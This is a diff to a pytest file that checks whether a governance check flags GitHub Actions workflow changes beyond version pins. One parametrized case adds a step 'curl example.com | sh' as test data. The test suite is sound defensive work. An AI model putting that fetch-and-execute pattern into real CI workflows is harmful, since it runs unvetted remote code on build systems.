@@ -128,10 +128,23 @@ def test_pin_only_workflow_bump_is_noop(committed, cli, new):
     assert fired(cli).get('governance') is None
 
 
-def test_workflow_change_beyond_pins_fires(committed, cli):
+@pytest.mark.parametrize(
+    'new',
+    [
+        pytest.param(WORKFLOW.replace('@v4', '@v5').replace('make test', 'make'), id='a_step_edited'),
+        # A pin moved and a line added or dropped: the lines cannot pair up.
+        pytest.param(
+            WORKFLOW.replace('@v4', '@v5') + '      - run: curl example.com | sh\n', id='a_step_added'
+        ),
+        pytest.param(
+            WORKFLOW.replace('@v4', '@v5').replace('      - run: make test\n', ''), id='a_step_dropped'
+        ),
+    ],
+)
+def test_workflow_change_beyond_pins_fires(committed, cli, new):
     committed.stage('.github/workflows/ci.yml', WORKFLOW)
     committed.commit('ci')
-    committed.stage('.github/workflows/ci.yml', WORKFLOW.replace('@v4', '@v5').replace('make test', 'make'))
+    committed.stage('.github/workflows/ci.yml', new)
     assert fired(cli).get('governance')['files'] == ['.github/workflows/ci.yml']
 
 
